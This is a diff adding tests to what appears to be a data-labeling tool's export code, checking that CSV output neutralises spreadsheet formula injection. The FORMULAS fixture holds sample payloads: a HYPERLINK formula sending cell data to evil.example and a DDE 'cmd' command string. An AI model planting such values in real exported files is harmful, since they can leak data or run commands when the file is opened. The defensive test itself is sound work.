@@ -18,6 +18,9 @@ def _labeled_project(store: Store):
         meta=[{"source": "s1"}, None, {"n": 3}, None], settings={"heldout_fraction": 0.0},
     )  # fmt: skip
     who = store.authenticate(store.add_annotator(info.id, "alice"))
+    for version in (1, 2):  # the model versions whose predictions the answers saw
+        assert store.start_version(info.id, [], 0, 0) == version
+        store.finish_version(info.id, version, metrics={})
     for n, label in enumerate(["pos", "neg", "pos"]):
         item, _ = store.next_item(who)
         store.submit(who, item.id, f"submission-{n}", value=label, model_version=n or None)
@@ -91,3 +94,60 @@ def test_unknown_format_is_refused(tmp_path):
     info = _labeled_project(store)
     with pytest.raises(ConfigError, match="use one of csv, jsonl, parquet"):
         export_labels(store, info.id, tmp_path / "labels.xlsx")
+
+
+FORMULAS = {
+    "eq": '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "plus": "+1+cmd|' /C calc'!A0",
+    "minus": "-2+3",
+    "at": "@SUM(A1:A9)",
+    "tab": "\t=1+1",
+    "cr": "\r=1+1",
+    "dash": "- a bullet point",
+    "number": "-5",
+}
+
+
+def _formula_project(store: Store):
+    info = store.create_project(
+        "f", ["-1", "+1"], texts=list(FORMULAS.values()), ids=list(FORMULAS),
+        settings={"heldout_fraction": 0.0},
+    )  # fmt: skip
+    who = store.authenticate(store.add_annotator(info.id, "=cmd"))
+    while (item := store.next_item(who)[0]) is not None:
+        store.submit(who, item.id, f"submission-{item.id}", value="-1")
+    return info
+
+
+def test_csv_cells_cannot_run_as_spreadsheet_formulas(tmp_path):
+    """OWASP CSV injection: a leading ' makes =, +, -, @, tab and CR cells plain text."""
+    store = Store.open(tmp_path / "p")
+    info = _formula_project(store)
+    export_labels(store, info.id, tmp_path / "labels.csv")
+    frame = pd.read_csv(tmp_path / "labels.csv", dtype=str, keep_default_na=False)
+    texts = dict(zip(frame["id"], frame["text"], strict=True))
+    for key, text in FORMULAS.items():
+        assert texts[key] == (text if key == "number" else "'" + text), key
+    assert set(frame["annotator"]) == {"'=cmd"}
+    assert set(frame["label"]) == {"-1"}  # a plain number is no formula: kept for the oracle
+
+
+@pytest.mark.parametrize("fmt", ["jsonl", "parquet"])
+def test_jsonl_and_parquet_keep_the_raw_values(tmp_path, fmt):
+    store = Store.open(tmp_path / "p")
+    info = _formula_project(store)
+    export_labels(store, info.id, tmp_path / f"labels.{fmt}")
+    frame = _read(tmp_path / f"labels.{fmt}", fmt)
+    assert dict(zip(frame["id"], frame["text"], strict=True)) == FORMULAS
+    assert set(frame["annotator"]) == {"=cmd"}
+
+
+def test_parquet_model_version_is_a_nullable_integer(tmp_path):
+    store = Store.open(tmp_path / "p")
+    info = _labeled_project(store)
+    export_labels(store, info.id, tmp_path / "labels.parquet")
+    frame = pd.read_parquet(tmp_path / "labels.parquet")
+    assert str(frame["model_version"].dtype) == "Int64"
+    # In answer order: no prediction shown, versions 1 and 2, then the flag (none).
+    assert frame["model_version"].isna().tolist() == [True, False, False, True]
+    assert frame["model_version"].dropna().tolist() == [1, 2]
